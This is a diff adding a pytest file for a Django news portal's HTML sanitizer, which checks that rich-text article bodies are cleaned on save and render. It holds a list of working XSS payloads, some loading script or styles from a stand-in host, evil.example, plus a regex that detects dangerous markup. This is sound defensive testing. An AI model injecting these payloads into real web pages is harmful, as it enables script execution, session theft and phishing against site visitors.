@@ -1,0 +1,128 @@
+"""Tests of portal/richtext.py: rich text is cleaned on save, so XSS payloads never reach the page."""
+
+import re
+
+import pytest
+
+from news.models import Article
+from portal.richtext import sanitize_html
+from tests.factories.news import ArticleFactory, CategoryFactory
+
+pytestmark = pytest.mark.django_db
+
+
+# Each payload, saved as an article body, must leave nothing executable behind.
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" ONERROR="alert(1)">',
+    "<body onload=alert(1)>",
+    '<a href="javascript:alert(1)">bấm</a>',
+    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
+    '<a href="  javascript:alert(1)">bấm</a>',
+    '<a href="java&#x09;script:alert(1)">bấm</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe src="https://evil.example/phish"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<p style="background:url(javascript:alert(1))">văn bản</p>',
+    '<div style="width: expression(alert(1))">văn bản</div>',
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<link rel="stylesheet" href="http://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><input type="submit"></form>',
+    '<button formaction="javascript:alert(1)">x</button>',
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!--<script>alert(1)</script>-->",
+    '<p title="</p><script>alert(1)</script>">x</p>',
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img """><script>alert(1)</script>">',
+    "<details open ontoggle=alert(1)>",
+    '<video><source onerror="alert(1)"></video>',
+    '<base href="javascript:alert(1)//">',
+    '<a href="#" onclick="alert(1)" onmouseover="alert(2)">rê chuột</a>',
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+]
+
+
+DANGEROUS = re.compile(
+    r"<script|javascript:|\son\w+\s*=|<iframe[^>]*evil|srcdoc|<svg|<style|<object|<embed|<form|<base|<meta|<link|data:text|expression\(",
+    re.I,
+)
+
+
+def save_through_admin(client, body: str) -> Article:
+    data = {
+        "title": "Bài kiểm tra an toàn nội dung",
+        "slug": "",
+        "lead": "Sapo kiểm tra.",
+        "body": body,
+        "category": CategoryFactory().pk,
+        "images-TOTAL_FORMS": "0",
+        "images-INITIAL_FORMS": "0",
+        "attachments-TOTAL_FORMS": "0",
+        "attachments-INITIAL_FORMS": "0",
+    }
+    response = client.post("/admin/news/article/add/", data)
+    assert response.status_code == 302, response.context["adminform"].form.errors
+    return Article.objects.latest("pk")
+
+
+def test_the_corpus_has_at_least_thirty_payloads():
+    assert len(XSS_PAYLOADS) >= 30
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_no_payload_survives_into_the_stored_html_or_the_page(editor_client, payload):
+    article = save_through_admin(editor_client, f"<p>Trước</p>{payload}<p>Sau</p>")
+    assert not DANGEROUS.search(article.body), article.body
+    article.status, article.publish_at = "published", article.created_at
+    article.save()
+    html = editor_client.get(article.get_absolute_url()).content.decode()
+    body = html.split('<div class="article-body">', 1)[1].split("</div>", 1)[0]
+    assert not DANGEROUS.search(body), body
+
+
+def test_vietnamese_text_tables_figures_and_allowed_videos_survive():
+    html = (
+        "<h2>Kết quả thi đua năm học 2024-2025</h2>"
+        "<p>Trường THCS Nguyễn Du đạt danh hiệu <strong>Tập thể lao động tiên tiến</strong>.</p>"
+        '<table><thead><tr><th scope="col">Đơn vị</th><th scope="col">Số giải</th></tr></thead>'
+        "<tbody><tr><td>Krông Pắc</td><td>12</td></tr></tbody></table>"
+        '<figure class="image"><img src="/media/editor/2026/11/le-khai-giang.jpg" alt="Lễ khai giảng">'
+        "<figcaption>Lễ khai giảng năm học mới</figcaption></figure>"
+        '<iframe src="https://www.youtube.com/embed/abcDEF12345" width="560" height="315" allowfullscreen></iframe>'
+        '<p><a href="https://moet.gov.vn/van-ban" target="_blank">Văn bản của Bộ</a></p>'
+    )
+    cleaned = sanitize_html(html)
+    assert "<h2>Kết quả thi đua năm học 2024-2025</h2>" in cleaned
+    assert "<strong>Tập thể lao động tiên tiến</strong>" in cleaned
+    assert '<th scope="col">Đơn vị</th>' in cleaned
+    assert (
+        '<figure class="image"><img src="/media/editor/2026/11/le-khai-giang.jpg" alt="Lễ khai giảng" loading="lazy">'
+        in cleaned
+    )
+    assert "<figcaption>Lễ khai giảng năm học mới</figcaption>" in cleaned
+    assert 'src="https://www.youtube.com/embed/abcDEF12345"' in cleaned
+    assert '<a href="https://moet.gov.vn/van-ban" target="_blank" rel="noopener noreferrer">' in cleaned
+
+
+def test_the_body_is_cleaned_whatever_path_saves_it():
+    article = ArticleFactory(body='<p onclick="alert(1)">Nội dung</p><script>alert(2)</script>')
+    article.refresh_from_db()
+    assert article.body == "<p>Nội dung</p>"
+
+
+def test_editor_images_load_lazily():
+    assert sanitize_html('<p><img src="/media/editor/a.jpg" alt="Ảnh"></p>') == (
+        '<p><img src="/media/editor/a.jpg" alt="Ảnh" loading="lazy"></p>'
+    )
